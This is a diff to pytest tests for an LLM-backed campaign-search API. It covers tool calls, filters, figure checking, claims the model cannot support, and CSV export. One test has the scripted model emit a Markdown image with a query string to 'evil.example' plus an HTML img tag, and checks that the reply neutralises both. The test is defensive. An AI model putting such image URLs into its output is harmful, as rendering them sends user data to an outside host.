@@ -13,8 +13,8 @@ from tests.doubles.chat_double import ChatDouble, Say
 from tests.doubles.command import command_in_process
 
 
-def search_call(name: str = "filter_campaigns", **args: Any) -> Say:
-    return Say(calls=[("call_1", name, json.dumps(args))])
+def search_call(by: str = "filter", **args: Any) -> Say:
+    return Say(calls=[("call_1", "search", json.dumps({"by": by, **args}))])
 
 
 def answer_call(*statements: dict[str, Any], **more: Any) -> Say:
@@ -38,13 +38,13 @@ async def test_a_question_about_offers_lists_only_offers_of_matching_campaigns(a
         "has_offer": True,
     }
     assert reply["total"] == len(reply["campaigns"]) > 5
-    assert reply["campaignsSource"] == "filter_campaigns"
+    assert reply["campaignsSource"] == "filter"
     offers = {f"{campaign['company']}: {campaign['offer']}" for campaign in reply["campaigns"]}
     lines = reply["response"].splitlines()
     assert lines[0] == f"{reply['total']} campaigns match."
     assert {*lines[1:]} <= offers
     assert {*reply["campaigns"][0]} >= {"id", "company", "key_value_props", "capture_date", "image_s3_urls"}
-    assert reply["steps"][0]["name"] == "filter_campaigns"
+    assert reply["steps"][0]["name"] == "search"
     assert "campaigns" not in reply["steps"][0]["result"]
 
 
@@ -59,6 +59,37 @@ async def test_a_follow_up_question_keeps_the_filters_of_the_conversation(api: h
     exported = await api.get(f"/api/campaigns/export?conversationId={first['conversationId']}")
     assert exported.headers["content-type"].startswith("text/csv")
     assert len(exported.text.splitlines()) == 1 + len(last["campaigns"])
+
+
+@pytest.mark.parametrize(
+    ("question", "word"),
+    [
+        ("show me no email campaigns", "no"),
+        ("how many successful campaigns are there", "successful"),
+        ("compare cheap travel campaigns by channel", "cheap"),
+        ("show the offers of zebra campaigns", "zebra"),
+        ("show me email or facebook campaigns", "or"),
+        ("find campaigns about cards without fees", "without"),
+    ],
+)
+async def test_the_offline_model_declines_a_word_that_it_cannot_filter_by(
+    api: httpx.AsyncClient, question: str, word: str
+):
+    """A-R1: a word that changes the meaning is named, not dropped, and nothing is searched."""
+    reply = await post_question(api, question)
+    assert (reply["steps"], reply["campaigns"]) == ([], [])
+    assert f"“{word}”" in reply["response"]
+
+
+async def test_the_offline_model_leaves_out_a_negated_value_and_counts_products(api: httpx.AsyncClient):
+    """E20, E27: "non-premium" filters no premium campaign, "recent" is a range of days."""
+    reply = await post_question(api, "show me non-premium campaigns")
+    assert reply["detectedFilters"] == {"exclude": {"sentiment": ["Premium"]}}
+    reply = await post_question(api, "how many mortgage campaigns are there")
+    assert (reply["total"], reply["response"].splitlines()[0]) == (10, "10 campaigns match.")
+    reply = await post_question(api, "What are the offers from recent Cash Back, Premium campaigns?")
+    assert {*reply["detectedFilters"]} == {"value_prop", "sentiment", "has_offer", "date_range"}
+    assert all(one["offer"] for one in reply["campaigns"])
 
 
 async def test_counts_and_trends_are_returned_as_aggregations(api: httpx.AsyncClient):
@@ -82,7 +113,7 @@ async def test_quoted_words_are_searched_in_the_copy_and_topics_by_meaning(api: 
     reply = await post_question(api, "find campaigns about airport lounges and boarding")
     value_props = [campaign["key_value_props"] for campaign in reply["campaigns"][:10]]
     assert sum("Travel Benefits" in names for names in value_props) >= 8
-    assert reply["campaignsSource"] == "semantic_search"
+    assert reply["campaignsSource"] == "meaning"
 
 
 async def test_active_filters_of_the_client_apply_to_every_search(api: httpx.AsyncClient):
@@ -123,7 +154,7 @@ async def test_unsupported_statements_are_returned_to_the_model_once_and_then_le
     refusal = model.requests[2].messages[-1]["content"]
     for problem in ("'a free car' is", "123456789", "'Acme Corp' is", "'1999-01-01'", "'77777'", "'c-9999'"):
         assert problem in refusal
-    note = "(6 statements were left out: no campaign supports them.)"
+    note = "(6 statements were left out: no result proves them.)"
     assert reply["response"] == f"{supported['text']}\n\n{note}"
     assert len(reply["campaigns"]) == 50 < reply["total"]
 
@@ -132,7 +163,7 @@ async def test_supported_statements_and_suggestions_are_in_the_reply(
     api: httpx.AsyncClient, model: ChatDouble
 ):
     """E9, E-R10: of a search the model gets only the count and a summary."""
-    statement = {"text": "Email has 74 campaigns in 2 rows of cards.", "figures": [74]}
+    statement = {"text": "Email has 74 campaigns.", "figures": [74]}
     model.script(
         search_call(channel=["email"], group_by="channel"), answer_call(statement, suggestions=["And X?"])
     )
@@ -149,22 +180,22 @@ async def test_an_image_in_an_answer_is_shown_as_a_link(
     api: httpx.AsyncClient, model: ChatDouble, *, searches: bool
 ):
     """E-R1: a client that renders Markdown loads nothing that a model names."""
-    text = "Look: ![all](https://evil.example/?q=secret) <IMG src=x>"
+    text = "Look: ![this](https://evil.example/?q=secret) <IMG src=x>"
     answer = answer_call({"text": text}) if searches else Say(text)
     model.script(*([search_call()] if searches else []), answer)
     reply = await post_question(api, "what is there", provider="openai")
-    assert reply["response"] == "Look: [all](https://evil.example/?q=secret) &lt;img src=x>"
+    assert reply["response"] == "Look: [this](https://evil.example/?q=secret) &lt;img src=x>"
 
 
 async def test_figures_in_a_plain_text_answer_are_checked(api: httpx.AsyncClient, model: ChatDouble):
-    """A wrong figure is replaced by the result; without a search there is nothing to check against."""
+    """A wrong figure is sent back once, then replaced by the result; a greeting claims nothing."""
     search, right, wrong = search_call(channel=["email"]), "There are 74 of them.", "There are 75 of them."
     model.script(search, Say(right))
     assert (await post_question(api, "how many?", provider="openai"))["response"] == right
-    model.script(search, Say(wrong))
+    model.script(search, Say(wrong), Say(wrong))
     reply = await post_question(api, "how many?", provider="openai")
     assert reply["response"].startswith("74 campaigns match:")
-    greeting = "Hello! Ask me about 1,000 things."
+    greeting = "Hello! Ask me about the campaigns."
     model.script(Say(greeting))
     assert (await post_question(api, "hi", provider="openai"))["response"] == greeting
 
@@ -172,7 +203,7 @@ async def test_figures_in_a_plain_text_answer_are_checked(api: httpx.AsyncClient
 async def test_a_question_makes_at_most_five_searches(api: httpx.AsyncClient, model: ChatDouble):
     """E2, E-R5."""
     channels = ("email", "facebook", "instagram", "twitter", "email")
-    model.script(*(search_call(channel=[name]) for name in channels), Say("I looked five times."))
+    model.script(*(search_call(channel=[name]) for name in channels), Say("I looked several times."))
     reply = await post_question(api, "everything", provider="openai")
     assert len(reply["steps"]) == 5
     assert model.requests[-1].body["tool_choice"] == "none"
@@ -193,8 +224,8 @@ async def test_search_operators_in_queries_are_plain_text(
     api: httpx.AsyncClient, model: ChatDouble, query: str
 ):
     """E-R9, X13."""
-    for tool in ("full_text_search", "search_offers"):
-        model.script(search_call(tool, query=query), Say("Nothing."))
+    for kind in ("words", "offers"):
+        model.script(search_call(kind, query=query), Say("Look."))
         reply = await post_question(api, "find it", provider="openai")
         assert reply["steps"][0]["status"] == "completed"
 
@@ -207,7 +238,7 @@ async def test_the_total_counts_offers_beyond_the_returned_page(api: httpx.Async
     lines = "\n".join(json.dumps(row) for row in rows)
     imported = await api.post("/api/campaigns/import", params={"fileName": "x.jsonl"}, content=lines)
     assert imported.json()["imported"] == 120, imported.text
-    model.script(search_call("search_offers", query="miles"), Say("60 of them."))
+    model.script(search_call("offers", query="miles"), Say("60 of them."))
     reply = await post_question(api, "which offers have miles?", provider="openai")
     assert (reply["total"], len(reply["campaigns"])) == (60, 50)
 
@@ -216,11 +247,10 @@ async def test_the_total_counts_offers_beyond_the_returned_page(api: httpx.Async
     "search",
     [
         search_call(channel=["email"]),
-        search_call("search_offers", query="for"),
-        search_call("full_text_search", query="card"),
-        search_call("semantic_search", query="travel", embedding_field="copy"),
+        search_call("offers", query="for"),
+        search_call("words", query="card"),
     ],
-    ids=lambda search: search.calls[0][1],
+    ids=lambda search: json.loads(search.calls[0][2])["by"],
 )
 async def test_the_export_of_a_conversation_has_every_matching_campaign(
     api: httpx.AsyncClient, model: ChatDouble, search: Say
